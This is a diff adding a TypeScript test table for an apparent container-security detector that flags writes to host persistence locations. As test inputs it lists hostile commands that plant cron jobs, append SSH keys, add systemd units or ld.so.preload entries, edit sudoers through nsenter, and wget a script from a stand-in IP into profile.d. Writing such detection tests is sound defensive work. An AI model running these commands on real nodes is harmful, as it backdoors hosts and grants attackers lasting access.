@@ -1,0 +1,42 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { blank, cronJob, indicatorTable, mounting, script, scriptOn, UNSEEN } from '../testing.ts';
+import { PERSISTENCE_FILES, PERSISTENCE_PREFIXES } from '../text/places.ts';
+import { commandPersistenceWrite } from './persistence-write.ts';
+
+const onMount = (path: string, mountPath: string, text: string) =>
+  cronJob(mounting(path, { mountPath }, ['sh', '-c', text]));
+
+indicatorTable(commandPersistenceWrite, {
+  fires: {
+    'a cron entry through the mounted root': scriptOn('/', 'echo "* * * * * root id" > /host/etc/cron.d/a'),
+    'a key that is appended': scriptOn('/', 'cat /key.pub >> /host/home/ubuntu/.ssh/authorized_keys'),
+    'a unit that is copied': scriptOn('/', 'cp /payload/a.service /host/etc/systemd/system/'),
+    'a library that is preloaded': scriptOn('/', 'echo /lib/x.so | tee -a /host/etc/ld.so.preload'),
+    'a download to the place itself': scriptOn('/', 'wget -qO /host/etc/profile.d/a.sh http://203.0.113.7/a'),
+    'a static pod through a narrower mount': onMount('/etc/kubernetes/manifests', '/m', 'printf x > /m/a.yaml'),
+    'a path with dots': scriptOn('/', 'echo x > /host/usr/../etc/./cron.d/a'),
+    'behind a chroot': script(`chroot /host sh -c 'echo x > /etc/cron.d/a'`),
+    'behind an nsenter': script(`nsenter -t 1 -m -- sh -c 'sed -i s/a/b/ /etc/sudoers'`),
+    'a here-document': scriptOn('/', 'cat > /host/etc/crontab <<EOF\n* * * * * root id\nEOF\n'),
+    'a shell that python starts': cronJob(
+      mounting('/', {}, ['python3', '-c', 'import os; os.system("echo x > /host/etc/cron.d/a")']),
+    ),
+  },
+  staysSilent: {
+    'the own crontab of a container': script(
+      'echo "0 3 * * * /backup" > /etc/crontabs/root; echo x > /etc/cron.d/a; crond -f',
+    ),
+    'a place of the node that starts nothing': scriptOn('/', 'echo x > /host/var/backup/etc.tar'),
+    'a place that is only read': scriptOn('/', 'cat /host/etc/crontab'),
+    'a read-only mount': cronJob(mounting('/', { readOnly: true }, ['sh', '-c', 'echo x > /host/etc/cron.d/a'])),
+    'a mount of other data': onMount('/data', '/host', 'echo x > /host/etc/cron.d/a'),
+    'no command set': blank,
+  },
+  cannotTell: UNSEEN,
+});
+
+for (const place of [...PERSISTENCE_FILES, ...PERSISTENCE_PREFIXES.map((prefix) => `${prefix}a`)]) {
+  test(`${place} on the node`, () =>
+    assert.equal(commandPersistenceWrite.assess(scriptOn('/', `echo x > /host${place}`)).kind, 'hit'));
+}
